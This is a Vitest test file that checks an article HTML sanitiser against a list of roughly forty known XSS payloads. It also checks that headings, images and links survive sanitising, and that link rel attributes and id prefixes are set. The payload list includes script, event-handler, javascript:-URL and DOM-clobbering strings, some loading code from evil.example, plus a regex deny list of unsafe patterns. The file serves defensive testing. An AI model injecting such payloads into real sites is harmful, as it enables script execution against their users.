// @vitest-environment jsdom
// The article sanitiser against a corpus of XSS payloads (OWASP cheat sheet, PortSwigger, DOMPurify's
// own tests): nothing that could run code, frame or embed a page, or restyle the app may survive.
import { describe, expect, it } from 'vitest'
import { sanitizeHtml } from '@/lib/html'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">cover</div>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p onclick="alert(1)" onmouseover=alert(1)>hover</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<form id="location"><input name="href"></form>',
  '<img name="getElementById">',
  '<isindex action=javascript:alert(1) type=image>',
]

/** What may never appear in sanitised output. */
const UNSAFE = [/<script/i, /\son[a-z]+\s*=/i, /javascript:/i, /vbscript:/i, /<iframe/i, /<object/i, /<embed/i, /<form/i, /<style/i, /<link/i, /<meta/i, /<base/i, /style=/i, /data:text\/html/i, /<svg/i, /<math/i, /<input/i, /<button/i]

describe('sanitizeHtml', () => {
  it('has a corpus of at least 30 payloads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30)
  })

  it.each(PAYLOADS)('defuses %s', (payload) => {
    const safe = sanitizeHtml(payload)
    for (const pattern of UNSAFE) expect(safe, `${payload} -> ${safe}`).not.toMatch(pattern)
    // Parsed again, nothing carries an event handler or a script URL.
    const holder = document.createElement('div')
    holder.innerHTML = safe
    for (const element of holder.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name.startsWith('on'), `${name} in ${safe}`).toBe(false)
        expect(value.replace(/\s/g, '')).not.toMatch(/^(javascript|vbscript|data):/i)
      }
    }
  })

  it('keeps the article markup a reader needs', () => {
    const html =
      '<h2 class="wp-block-heading">Open your file</h2><p>Apply through <strong>Nefesh B&#8217;Nefesh</strong>.</p>' +
      '<ul><li>A passport</li></ul><figure><img src="/demo/wp/a.svg" alt="A checklist" width="800" height="450"/><figcaption>Steps</figcaption></figure>' +
      '<blockquote>Quote</blockquote><table><tr><td>1</td></tr></table><a href="/blog">Blog</a>'
    const holder = document.createElement('div')
    holder.innerHTML = sanitizeHtml(html)
    expect(holder.querySelector('h2')?.textContent).toBe('Open your file')
    expect(holder.querySelector('strong')?.textContent).toBe('Nefesh B’Nefesh')
    expect(holder.querySelectorAll('li')).toHaveLength(1)
    expect(holder.querySelector('img')?.getAttribute('alt')).toBe('A checklist')
    expect(holder.querySelector('img')?.getAttribute('loading')).toBe('lazy')
    expect(holder.querySelector('figcaption')?.textContent).toBe('Steps')
    expect(holder.querySelector('blockquote')).not.toBeNull()
    expect(holder.querySelector('td')?.textContent).toBe('1')
    expect(holder.querySelector('a')?.getAttribute('href')).toBe('/blog')
    expect(holder.querySelector('a')?.hasAttribute('target')).toBe(false)
  })

  it('gives links that open a new tab rel="noopener noreferrer", and sends other sites to a new tab', () => {
    const holder = document.createElement('div')
    holder.innerHTML = sanitizeHtml(
      '<a href="/x" target="_blank" rel="opener">own</a><a href="https://europa.eu/">other</a><a href="/y" target="_top">top</a>',
    )
    const [own, other, top] = holder.querySelectorAll('a')
    expect(own?.getAttribute('rel')).toBe('noopener noreferrer')
    expect(other?.getAttribute('target')).toBe('_blank')
    expect(other?.getAttribute('rel')).toBe('noopener noreferrer')
    expect(top?.hasAttribute('target')).toBe(false)
  })

  it('prefixes ids so a body cannot clobber the page', () => {
    expect(sanitizeHtml('<p id="main">x</p>')).toContain('id="user-content-main"')
  })

  it('returns an empty string for empty input', () => {
    expect(sanitizeHtml('   ')).toBe('')
  })
})
